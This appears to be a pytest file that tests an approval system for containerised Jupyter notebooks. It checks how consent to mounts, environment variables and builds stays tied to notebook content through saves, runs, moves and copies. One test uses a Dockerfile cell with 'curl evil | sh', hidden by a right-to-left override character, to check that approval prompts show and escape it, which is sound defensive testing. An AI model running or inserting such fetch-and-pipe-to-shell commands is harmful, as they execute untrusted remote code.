"""What a yes follows, what it does not hold for, and the list of all that is approved."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from jupyter_containers.errors import BuildNotApproved
from jupyter_containers.models import Mount
from jupyter_containers.policy.approvals import Approvals, ask_of_cell, asks_of_build
from jupyter_containers.settings.schema import Settings
from tests.helpers.private_home import private_home

PLAIN = Settings(image="localhost/x:1")
RW = Mount("/data/a", "/a", writable=True)


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return private_home(tmp_path, monkeypatch)


@pytest.fixture
def notebook(tmp_path: Path) -> Path:
    path = tmp_path / "n.ipynb"
    path.touch()
    return path


def settings(**more: Any) -> Settings:
    return replace(PLAIN, **more)


def test_a_notebook_that_takes_its_place_has_no_yes_of_it(notebook: Path) -> None:
    asked = settings(mounts=(RW,), env={"A": "b"})
    build = asks_of_build(["pip"], [])
    Approvals().approve(notebook, asked, content="mine")
    Approvals().check_build(notebook, build, None, "mine")
    Approvals().set_outputs(notebook, "mine", "trusted")
    Approvals().check(notebook, asked, "mine")
    assert len(Approvals().missing(notebook, asked, "theirs")) == 3
    assert Approvals().outputs(notebook, "theirs") == "isolated"
    with pytest.raises(BuildNotApproved):
        Approvals().check_build(notebook, build, (), "theirs")
    # What it is given is its own alone, and the first one asks again when it is back.
    Approvals().approve(notebook, PLAIN, content="theirs")
    assert len(Approvals().missing(notebook, asked, "theirs")) == 2
    assert len(Approvals().missing(notebook, asked, "mine")) == 3
    # The person names a file: what it holds is not compared.
    Approvals().check(notebook, PLAIN)


def test_a_notebook_that_this_person_saves_keeps_its_yes(notebook: Path) -> None:
    Approvals().approve(notebook, PLAIN, content="1")
    Approvals().saved(notebook, "1", "2", own=True)
    Approvals().check(notebook, PLAIN, "2")
    # An editor that overwrites what came from elsewhere is about that one.
    Approvals().saved(notebook, "theirs", "3", own=False)
    assert Approvals().missing(notebook, PLAIN, "3")
    assert Approvals().records.read(notebook).own is False
    # So is a new file where another was deleted.
    Approvals().approve(notebook, PLAIN, content="3")
    Approvals().saved(notebook, "", "3", own=True)
    assert Approvals().missing(notebook, PLAIN, "3")


def test_a_run_keeps_the_yes_of_the_notebook_that_it_writes(notebook: Path) -> None:
    Approvals().approve(notebook, PLAIN, content="before")
    Approvals().rewritten(notebook, "before", "after")
    Approvals().check(notebook, PLAIN, "after")
    Approvals().rewritten(notebook, "another's", "mine")
    assert Approvals().missing(notebook, PLAIN, "mine")


def test_moved_and_copied(notebook: Path, tmp_path: Path) -> None:
    asked = settings(mounts=(RW,))
    Approvals().approve(notebook, asked, content="1")
    Approvals().set_outputs(notebook, "1", "trusted")
    moved, copied, elsewhere = (tmp_path / f"{name}.ipynb" for name in ("moved", "copied", "sub/n"))
    assert Approvals().carry(notebook, moved) == [moved]
    assert Approvals().missing(notebook, asked)
    Approvals().carry(moved, copied, keep=True)
    for path in (moved, copied):
        Approvals().check(path, asked, "1")
        assert Approvals().outputs(path, "1") == "trusted"
        assert len(Approvals().missing(path, asked, "another")) == 2
    # With its folder, which has a name that another's begins with.
    (tmp_path / "sub").mkdir()
    Approvals().carry(moved, elsewhere)
    assert Approvals().carry(tmp_path / "su", tmp_path / "x") == []
    assert Approvals().carry(tmp_path / "sub", tmp_path / "other") == [tmp_path / "other/n.ipynb"]
    Approvals().check(tmp_path / "other/n.ipynb", asked, "1")


def test_the_list(notebook: Path, tmp_path: Path) -> None:
    assert Approvals().listed() == []
    Approvals().saved(tmp_path / "only-saved.ipynb", "", "1", own=True)
    Approvals().approve(notebook, settings(env={"TOKEN": "s3cret"}))
    (record,) = Approvals().listed()
    assert record.path == str(notebook)
    texts = [one.text for one in record.given]
    assert texts == ["the image localhost/x:1", "the environment variable TOKEN"]
    assert all(len(one.day) == len("2026-01-01") for one in record.given)
    Approvals().forget(notebook)
    assert Approvals().listed() == []


def test_a_cell_of_somebody_elses_is_shown_whole() -> None:
    source = "%%dockerfile\nFROM x\nRUN \tcurl \u202eevil | sh\n" + "RUN true\n" * 300
    ask = ask_of_cell(source)
    assert ask.text.startswith("this Dockerfile cell, which was not written here:\n%%dockerfile\n")
    assert "\u202e" not in ask.text and "\\u202eevil" in ask.text
    assert ask.text.count("RUN true") == 300
    assert ask_of_cell(source + " ").key != ask.key
    assert "\n" not in ask.listed
